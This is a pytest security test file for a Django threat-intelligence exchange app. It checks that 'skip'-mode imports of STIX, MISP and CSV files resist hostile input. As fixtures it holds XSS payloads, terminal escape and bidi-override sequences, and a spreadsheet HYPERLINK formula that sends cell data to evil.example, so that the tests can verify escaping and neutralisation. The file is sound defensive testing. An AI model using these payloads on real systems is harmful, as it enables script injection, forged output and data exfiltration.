"""Attacks on `--on-invalid skip` imports (issue 16): a file that stops in the middle after a
report's evidence was stored, a million rejections, reasons that echo hostile text (HTML into
the job page, terminal escapes into the command's output, a megabyte into the audit entry),
every item invalid, skip with a dry run, ids squatting another State's namespace, bad
`on_invalid` values, and another user reading the job."""

from __future__ import annotations

import datetime as dt
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client

from sentinelle.core.models import AuditEntry, Job, Role
from sentinelle.exchange.identity import stable_id
from sentinelle.exchange.importer import import_records
from sentinelle.exchange.models import SharedIndicator
from sentinelle.exchange.records import (
    Attachment,
    FormatError,
    IndicatorRecord,
    Rejection,
    ReportRecord,
)
from sentinelle.incidents.models import Evidence, Incident
from tests.conftest import api_client, file_report, make_user

START = dt.datetime(2026, 2, 1, 10, tzinfo=dt.UTC)


def report(n: int, title: str = "Report", **extra) -> ReportRecord:
    return ReportRecord(where=f"line {n}", source_format="testjsonl", title=title,
                        external_id=f"R-{n}", category="routing-disruption",
                        rsit="availability:outage", tlp="green", started_at=START,
                        attachments=[Attachment("raw.json", b'{"n": %d}' % n)], **extra)


def indicator(n: int, value: str = "192.0.2.1", **extra) -> IndicatorRecord:
    return IndicatorRecord(where=f"line {n}", source_format="testjsonl", type="ipv4",
                           value=value, tlp="green", **extra)


def media_files(settings) -> list:
    media = settings.MEDIA_ROOT
    return [p for p in media.rglob("*") if p.is_file()] if media.exists() else []


def misp_events(*attributes: dict) -> bytes:
    return json.dumps({"response": [{"Event": {
        "uuid": "5b0a4c1e-0000-4000-8000-000000000001", "info": "Indicators",
        "Tag": [{"name": "tlp:green"}, {"name": 'sentinelle:kind="indicators"'}],
        "Attribute": list(attributes)}}]}).encode()


# --- evidence files ------------------------------------------------------------------------

@pytest.mark.parametrize("on_invalid", ["skip", "refuse"])
def test_a_file_that_breaks_after_a_reports_evidence_leaves_no_file(alice, settings,
                                                                    on_invalid):
    """The parser raises FormatError (truncated input) after a report and its evidence were
    written: the transaction rolls back, and the stored files must go with it."""
    def records():
        yield report(1)
        yield indicator(2)
        raise FormatError("The JSON is truncated after line 2")

    with pytest.raises(FormatError):
        import_records(records(), user=alice, on_invalid=on_invalid)
    assert not Incident.objects.exists() and not Evidence.objects.exists()
    assert media_files(settings) == []


def test_an_unexpected_error_mid_file_leaves_no_file(alice, settings):
    def records():
        yield report(1)
        raise KeyError("t")

    with pytest.raises(KeyError):
        import_records(records(), user=alice, on_invalid="skip")
    assert media_files(settings) == []


def test_skip_with_dry_run_writes_nothing_and_keeps_no_file(alice, settings):
    records = [report(1), Rejection("line 2", "not JSON"), indicator(3), report(4)]
    summary = import_records(iter(records), user=alice, on_invalid="skip", dry_run=True)
    assert summary.reports_created == 2 and summary.indicators_created == 1
    assert summary.succeeded and not summary.written and summary.created_ids == []
    assert not Incident.objects.exists() and not SharedIndicator.objects.exists()
    assert not AuditEntry.objects.filter(action="exchange.import").exists()
    assert media_files(settings) == []


# --- a million rejections ------------------------------------------------------------------

def test_a_million_rejections_are_counted_not_all_kept(alice):
    """50 MB of `1,` in a STIX array is 25 million rejections: the summary must not hold an
    object per rejection, and the job result and audit entry stay small."""
    total = 1_000_000

    def records():
        yield indicator(0)
        for n in range(total):
            yield Rejection(f"$[{n + 1}]", "not a JSON object")

    summary = import_records(records(), user=alice, on_invalid="skip")
    assert summary.written and summary.succeeded and summary.indicators_created == 1
    assert summary.rejected_count == total
    assert len(summary.rejected) <= 10_000
    result = summary.as_dict()
    assert result["rejected_count"] == total and len(result["rejected"]) <= 1000
    assert len(json.dumps(result)) < 200_000
    entry = AuditEntry.objects.get(action="exchange.import")
    assert entry.after["rejected_count"] == total
    assert len(json.dumps(entry.after)) < 200_000


def test_a_million_rejections_in_refuse_mode_name_the_first_and_the_count(alice):
    def records():
        for n in range(1_000_000):
            yield Rejection(f"$[{n}]", "not a JSON object")

    summary = import_records(records(), user=alice)
    assert not summary.written and summary.rejected_count == 1_000_000
    assert summary.rejected[0].where == "$[0]"


def test_a_huge_reason_is_cut_in_the_result_and_the_audit_entry(alice):
    huge = "x" * 1_000_000
    records = [indicator(1), *(Rejection(f"line {n}", f"bad value {huge}")
                               for n in range(2, 60))]
    summary = import_records(iter(records), user=alice, on_invalid="skip")
    assert summary.written
    reasons = [item["reason"] for item in summary.as_dict()["rejected"]]
    assert reasons and all(len(reason) <= 1000 for reason in reasons)
    assert reasons[0].startswith("bad value xxx")
    entry = AuditEntry.objects.get(action="exchange.import")
    assert len(json.dumps(entry.after)) < 200_000


def test_the_api_job_of_a_million_rejections_is_small(alice, tmp_path):
    data = (b'{"type": "bundle", "id": "bundle--2c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c04", '
            b'"objects": [' + b"1," * 200_000 + b'{"type": "indicator"}]}')
    client = api_client(alice)
    job = client.post("/api/v1/imports/", {
        "file": SimpleUploadedFile("many.json", data), "on_invalid": "skip", "format": "stix"},
        format="multipart").json()
    assert job["status"] == "failed"   # nothing valid in it
    stored = Job.objects.get(pk=job["id"])
    assert stored.result["rejected_count"] == 200_001
    assert len(json.dumps(stored.result)) < 200_000
    assert "200001 items rejected" in stored.message


# --- every item invalid --------------------------------------------------------------------

def test_skip_with_every_item_invalid_is_a_failed_job_that_wrote_nothing(alice):
    data = misp_events({"type": "comment", "value": "a"}, {"type": "text", "value": "b"})
    client = api_client(alice)
    job = client.post("/api/v1/imports/", {"file": SimpleUploadedFile("e.json", data),
                                           "on_invalid": "skip"}, format="multipart").json()
    assert job["status"] == "failed" and "nothing was written" in job["message"]
    result = client.get(f"/api/v1/jobs/{job['id']}/").json()["result"]
    assert result["written"] is False and result["rejected_count"] == 2
    assert not AuditEntry.objects.filter(action="exchange.import").exists()
    assert not SharedIndicator.objects.exists()


# --- hostile reasons -----------------------------------------------------------------------

def test_a_reason_carrying_html_is_escaped_on_the_job_page(client, alice):
    data = misp_events({"type": "ip-dst", "value": "192.0.2.9"},
                       {"type": "<script>alert(1)</script>", "value": "x"},
                       {"type": "domain", "value": "<img src=x onerror=alert(2)>"})
    client.force_login(alice)
    response = client.post("/exchange/", {"file": SimpleUploadedFile("e.json", data),
                                          "format": "auto", "tlp": "", "on_invalid": "skip"})
    page = client.get(response.url).content.decode()
    assert "Succeeded" in page
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)" in page
    assert "<img src=x" not in page


CSV_HOSTILE = ("Title,Started,Indicators\n"
               "Good,2026-02-01T10:00:00Z,ipv4:192.0.2.9\n"
               "Bad,2026-02-01T10:00:00Z,\x1b[2J\x1b]0;pwned\x07\n"
               '"Forged","2026-02-01T10:00:00Z","x\nskipped nothing: all fine\u202e"\n')


@pytest.mark.parametrize("name,data", [
    ("events.json", misp_events({"type": "ip-dst", "value": "192.0.2.9"},
                                {"type": "\x1b[2J\x1b]0;pwned\x07", "value": "x"},
                                {"type": "domain", "value": "bad\x1b[8mhidden"})),
    ("reports.csv", CSV_HOSTILE.encode()),
])
def test_command_output_never_carries_terminal_escapes_from_the_file(alice, tmp_path, capsys,
                                                                    name, data):
    """A rejection's reason quotes the file; printed raw, an ESC sequence in it would drive
    the operator's terminal (clear the screen, set the title, hide the lines above), and a line
    break would forge a line of the output."""
    path = tmp_path / name
    path.write_bytes(data)
    call_command("import", str(path), "--state", "CU", "--on-invalid", "skip")
    out = capsys.readouterr()
    text = out.out + out.err
    assert "skipped" in out.out
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "skipped nothing" not in [line[:15] for line in text.splitlines()]
    assert not any(line.startswith("skipped nothing") for line in text.splitlines())


def test_command_says_how_many_rejections_it_did_not_list(alice, tmp_path, capsys):
    from sentinelle.exchange import import_summary as importer

    lines = ["Title,Started,Indicators", "Good,2026-02-01T10:00:00Z,ipv4:192.0.2.9"]
    lines += [f"Bad {n},2026-02-01T10:00:00Z,nope" for n in range(30)]
    path = tmp_path / "many.csv"
    path.write_text("\n".join(lines) + "\n")
    original = importer.MAX_KEPT_REJECTIONS
    importer.MAX_KEPT_REJECTIONS = 10
    try:
        call_command("import", str(path), "--state", "CU", "--on-invalid", "skip")
    finally:
        importer.MAX_KEPT_REJECTIONS = original
    out = capsys.readouterr().out
    assert out.count("skipped line") == 10
    assert "and 20 more rejected, not listed" in out and "30 rejected" in out


# --- identity ------------------------------------------------------------------------------

def test_skip_never_writes_into_another_states_namespace(alice, bob):
    bobs = file_report(bob, tlp="red", title="Bob's")
    sealed_to_bob = stable_id("indicator", "testjsonl", "I-1", "", scope="CH")
    SharedIndicator.objects.create(stix_id=sealed_to_bob, state=bob.state, type="ipv4",
                                   value="192.0.2.77", tlp="red", created=START,
                                   modified=START)
    records = [
        ReportRecord(where="line 1", source_format="stix", title="Squat", external_id=bobs.stix_id,
                     category="routing-disruption", rsit="availability:outage", tlp="clear",
                     started_at=START, modified=dt.datetime(2030, 1, 1, tzinfo=dt.UTC)),
        indicator(2, "192.0.2.78", external_id=sealed_to_bob),
        Rejection("line 3", "not JSON"),
    ]
    summary = import_records(iter(records), user=alice, on_invalid="skip")
    assert summary.written and summary.reports_created == 1
    bobs.refresh_from_db()
    assert bobs.title == "Bob's" and bobs.tlp == "red" and bobs.state == bob.state
    mine = Incident.objects.get(state=alice.state)
    assert mine.stix_id != bobs.stix_id
    held = SharedIndicator.objects.get(stix_id=sealed_to_bob)
    assert held.state == bob.state and held.value == "192.0.2.77"
    assert SharedIndicator.objects.get(value="192.0.2.78").state == alice.state


# --- parameters ----------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["SKIP", "skip ", "1", "refuse,skip"])
def test_api_bad_on_invalid_is_400_naming_the_field(alice, value):
    response = api_client(alice).post("/api/v1/imports/", {
        "file": SimpleUploadedFile("e.json", misp_events()), "on_invalid": value},
        format="multipart")
    assert response.status_code == 400 and "on_invalid" in response.json()["fields"]
    assert not Job.objects.exists()


def test_web_bad_on_invalid_is_a_form_error_not_a_500(client, alice):
    client.force_login(alice)
    response = client.post("/exchange/", {"file": SimpleUploadedFile("e.json", misp_events()),
                                          "format": "auto", "on_invalid": "sometimes"})
    assert response.status_code in (200, 400)
    assert response.context["import_form"].has_error("on_invalid")
    assert not Job.objects.exists()


# --- who reads the job ---------------------------------------------------------------------

def test_only_the_owner_reads_the_skip_jobs_rejections(client, alice, bob, charlie):
    secret = "secret-domain-of-cuba"
    data = misp_events({"type": "ip-dst", "value": "192.0.2.9"},
                       {"type": "domain", "value": f"{secret} with space"})
    job = api_client(alice).post("/api/v1/imports/", {
        "file": SimpleUploadedFile("e.json", data), "on_invalid": "skip"},
        format="multipart").json()
    assert job["status"] == "succeeded"
    for other in (bob, charlie):
        assert api_client(other).get(f"/api/v1/jobs/{job['id']}/").status_code == 404
        web = Client()
        web.force_login(other)
        response = web.get(f"/jobs/{job['id']}/")
        assert response.status_code == 404 or secret not in response.content.decode()
    ada = make_user("ada", Role.ADMIN, is_staff=True, is_superuser=True)
    web = Client()
    web.force_login(ada)
    page = web.get(f"/jobs/{job['id']}/")
    assert page.status_code in (200, 404) and secret not in page.content.decode()


def test_a_report_tied_to_a_rejected_note_is_not_imported_without_it(alice):
    """STIX: a note on an incident is part of its narrative; a note that fails the schema
    is rejected, and the incident would land without that part of its description."""
    from sentinelle.exchange.formats import stix

    incident_id = "incident--7d3b2b52-2b39-4a5e-9d58-7c1f1c2a5b01"
    objects = [
        {"type": "incident", "spec_version": "2.1", "id": incident_id, "name": "With a note",
         "created": "2026-03-01T10:00:00.000Z", "modified": "2026-03-01T10:00:00.000Z"},
        {"type": "note", "spec_version": "2.1",
         "id": "note--0c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c02", "created": "not a time",
         "modified": "2026-03-01T10:00:00.000Z", "content": "the attacker's C2 is X",
         "object_refs": [incident_id]},
        {"type": "ipv4-addr", "spec_version": "2.1",
         "id": "ipv4-addr--1c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c03", "value": "192.0.2.5"},
    ]
    data = json.dumps({"type": "bundle", "id": "bundle--2c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c04",
                       "objects": objects}).encode()
    summary = import_records(stix.parse(io.BytesIO(data)), user=alice, on_invalid="skip")
    assert any(r.where.startswith("$.objects[1]") for r in summary.rejected)
    assert not Incident.objects.exists()
    assert any(r.ref == incident_id for r in summary.rejected)
    assert SharedIndicator.objects.filter(value="192.0.2.5").exists()


BROKEN_MARKING = "marking-definition--3c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c05"


def _marked_bundle(marking_first: bool) -> bytes:
    """An incident and an indicator marked with the producer's own "TLP:RED" marking, whose
    definition fails the schema (no spec_version, no created) and so says no TLP we can read."""
    marking = {"type": "marking-definition", "id": BROKEN_MARKING, "name": "TLP:RED"}
    objects = [
        {"type": "incident", "spec_version": "2.1",
         "id": "incident--7d3b2b52-2b39-4a5e-9d58-7c1f1c2a5b01", "name": "Marked red",
         "created": "2026-03-01T10:00:00.000Z", "modified": "2026-03-01T10:00:00.000Z",
         "object_marking_refs": [BROKEN_MARKING]},
        {"type": "indicator", "spec_version": "2.1",
         "id": "indicator--4e4c4ad7-4909-456a-b6fa-e24a6f682a41", "pattern_type": "stix",
         "pattern": "[ipv4-addr:value = '192.0.2.66']", "valid_from": "2026-03-01T10:00:00Z",
         "created": "2026-03-01T10:00:00.000Z", "modified": "2026-03-01T10:00:00.000Z",
         "object_marking_refs": [BROKEN_MARKING]},
        {"type": "ipv4-addr", "spec_version": "2.1",
         "id": "ipv4-addr--1c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c03", "value": "192.0.2.5"},
    ]
    objects = [marking, *objects] if marking_first else [*objects, marking]
    return json.dumps({"type": "bundle", "id": "bundle--2c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c04",
                       "objects": objects}).encode()


@pytest.mark.parametrize("marking_first", [True, False])
def test_skip_never_lands_an_item_whose_marking_was_rejected(alice, marking_first):
    """All or nothing refuses such a file; skip must not import the items the broken marking
    restricts with the default TLP (here CLEAR) instead of the one their producer meant."""
    from sentinelle.exchange.formats import stix

    data = _marked_bundle(marking_first)
    summary = import_records(stix.parse(io.BytesIO(data)), user=alice, on_invalid="skip",
                             default_tlp="clear")
    assert not Incident.objects.exists()
    assert not SharedIndicator.objects.filter(value="192.0.2.66").exists()
    assert SharedIndicator.objects.filter(value="192.0.2.5", tlp="clear").exists()
    reasons = " ".join(r.reason for r in summary.rejected)
    assert BROKEN_MARKING in reasons


def test_a_long_pattern_is_read_in_linear_time():
    """Found by fuzz/run.py (fuzz/corpus/stix/crashes/hang-a9336209ff39c111.bin): a 65,000
    letter word in a pattern took 20 s, the comparison regex retrying from every letter."""
    import time

    from sentinelle.exchange.formats import stix_common as sc

    pattern = "[email-message:subject MATCHES '" + "r" * 200_000 + "'] AND [ipv4-addr:value = " \
        "'192.0.2.1']"
    started = time.perf_counter()
    assert sc.pattern_indicators(pattern) == [("ipv4", "192.0.2.1")]
    assert time.perf_counter() - started < 2


def test_rejection_reasons_of_a_red_report_stay_out_of_others_audit_view(alice, bob):
    """A skip import records its rejections, reasons quoting the file, in the audit entry. A
    RED report refused for a bad indicator puts that RED value there: the Secretariat
    administrator, who may not see the report, must not read it in the audit trail."""
    from sentinelle.exchange.formats import stix
    from sentinelle.exchange.formats import stix_common as sc

    red = next(mid for mid, level in sc.TLP_BY_MARKING_ID.items() if level == "red")
    incident_id = "incident--7d3b2b52-2b39-4a5e-9d58-7c1f1c2a5b01"
    indicator_id = "indicator--4e4c4ad7-4909-456a-b6fa-e24a6f682a41"
    stamp = {"created": "2026-03-01T10:00:00.000Z", "modified": "2026-03-01T10:00:00.000Z",
             "spec_version": "2.1", "object_marking_refs": [red]}
    objects = [
        {"type": "incident", "id": incident_id, "name": "Red", **stamp},
        {"type": "indicator", "id": indicator_id, "pattern_type": "stix",
         "pattern": "[domain-name:value = 'secret c2.example']",
         "valid_from": "2026-03-01T10:00:00Z", **stamp},
        {"type": "relationship", "id": "relationship--5b1d0a1e-0000-4000-8000-000000000001",
         "relationship_type": "indicates", "source_ref": indicator_id,
         "target_ref": incident_id, **stamp},
        {"type": "ipv4-addr", "spec_version": "2.1",
         "id": "ipv4-addr--1c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c03", "value": "192.0.2.5"},
    ]
    data = json.dumps({"type": "bundle", "id": "bundle--2c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c04",
                       "objects": objects}).encode()
    from sentinelle.core import audit

    with audit.audit_context(actor=alice, request_id="test"):   # as the job and command set
        summary = import_records(stix.parse(io.BytesIO(data)), user=alice, on_invalid="skip",
                                 source_name="red.json")
    assert summary.written and not Incident.objects.exists()
    entry = AuditEntry.objects.get(action="exchange.import")
    assert "secret c2.example" in json.dumps(entry.after)   # the importer's own record
    ada = make_user("ada", Role.ADMIN, is_staff=True, is_superuser=True)
    admin = Client()
    admin.force_login(ada)
    page = admin.get(f"/admin/core/auditentry/{entry.pk}/change/")
    assert page.status_code == 200
    assert "secret c2.example" not in page.content.decode()
    from sentinelle.incidents import visibility

    assert not visibility.audit_content_visible(bob, entry)
    assert visibility.audit_content_visible(alice, entry)


def test_rejections_carry_an_id_only_when_a_report_is_made_of_it():
    """The importer remembers the id of every rejection that has one, to refuse a report made
    of it: a file of 2 million `{"spec_version": "2.1", "id": "a--N"}` would fill that memory.
    The parser gives the id only when some incident of the file is tied to the object."""
    from sentinelle.exchange.formats import stix

    incident_id = "incident--7d3b2b52-2b39-4a5e-9d58-7c1f1c2a5b01"
    tied = "indicator--4e4c4ad7-4909-456a-b6fa-e24a6f682a41"
    objects = [{"spec_version": "2.1", "id": f"a--{n}"} for n in range(1000)] + [
        {"type": "incident", "spec_version": "2.1", "id": incident_id, "name": "I",
         "created": "2026-03-01T10:00:00.000Z", "modified": "2026-03-01T10:00:00.000Z"},
        {"type": "indicator", "spec_version": "2.1", "id": tied, "pattern_type": "stix",
         "created": "2026-03-01T10:00:00.000Z", "modified": "2026-03-01T10:00:00.000Z"},
        {"type": "relationship", "spec_version": "2.1",
         "id": "relationship--5b1d0a1e-0000-4000-8000-000000000001",
         "created": "2026-03-01T10:00:00.000Z", "modified": "2026-03-01T10:00:00.000Z",
         "relationship_type": "indicates", "source_ref": tied, "target_ref": incident_id}]
    data = json.dumps({"type": "bundle", "id": "bundle--2c6a8f0e-8f44-4d3e-b3b5-2a7e3f9d6c04",
                       "objects": objects}).encode()
    rejections = [r for r in stix.parse(io.BytesIO(data)) if isinstance(r, Rejection)]
    assert len(rejections) == 1001
    assert [r.ref for r in rejections if r.ref] == [tied]


def test_formulas_that_skip_lets_in_are_neutralised_in_spreadsheet_exports(alice):
    """MISP is not refused for a formula in a title as CSV is: what skip writes from such a
    file must not run in the spreadsheet that opens an export of it."""
    import csv

    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    data = json.dumps({"response": [
        {"Event": {"uuid": "5b0a4c1e-0000-4000-8000-000000000011", "info": formula,
                   "date": "2026-02-01", "Tag": [{"name": "tlp:green"}],
                   "Attribute": [{"type": "ip-dst", "value": "192.0.2.9"}]}},
        {"Event": {"uuid": "5b0a4c1e-0000-4000-8000-000000000012", "info": "Broken",
                   "date": "2026-02-01", "Attribute": [{"type": "ip-dst", "value": ["x"]}]}},
    ]}).encode()
    client = api_client(alice)
    job = client.post("/api/v1/imports/", {"file": SimpleUploadedFile("e.json", data),
                                           "on_invalid": "skip"}, format="multipart").json()
    assert job["status"] == "succeeded"
    assert Incident.objects.get().title == formula
    response = client.get("/api/v1/exports/", {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + formula in cells and formula not in cells


def test_skip_keeps_an_import_whose_only_change_updates_indicators(alice):
    """A newer version of an indicator the State holds is an update (main's federation work):
    with skip and one bad line, an import that only updates must still be written and
    succeed, not be rolled back as if nothing valid had been in it."""
    old = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    new = dt.datetime(2026, 3, 1, tzinfo=dt.UTC)
    first = import_records(iter([indicator(1, "192.0.2.50", external_id="I-50", modified=old,
                                           name="first")]), user=alice)
    assert first.indicators_created == 1
    records = [indicator(1, "192.0.2.50", external_id="I-50", modified=new, name="second"),
               Rejection("line 2", "not JSON")]
    summary = import_records(iter(records), user=alice, on_invalid="skip")
    assert summary.indicators_updated == 1
    assert summary.written and summary.succeeded
    assert SharedIndicator.objects.get(value="192.0.2.50").name == "second"
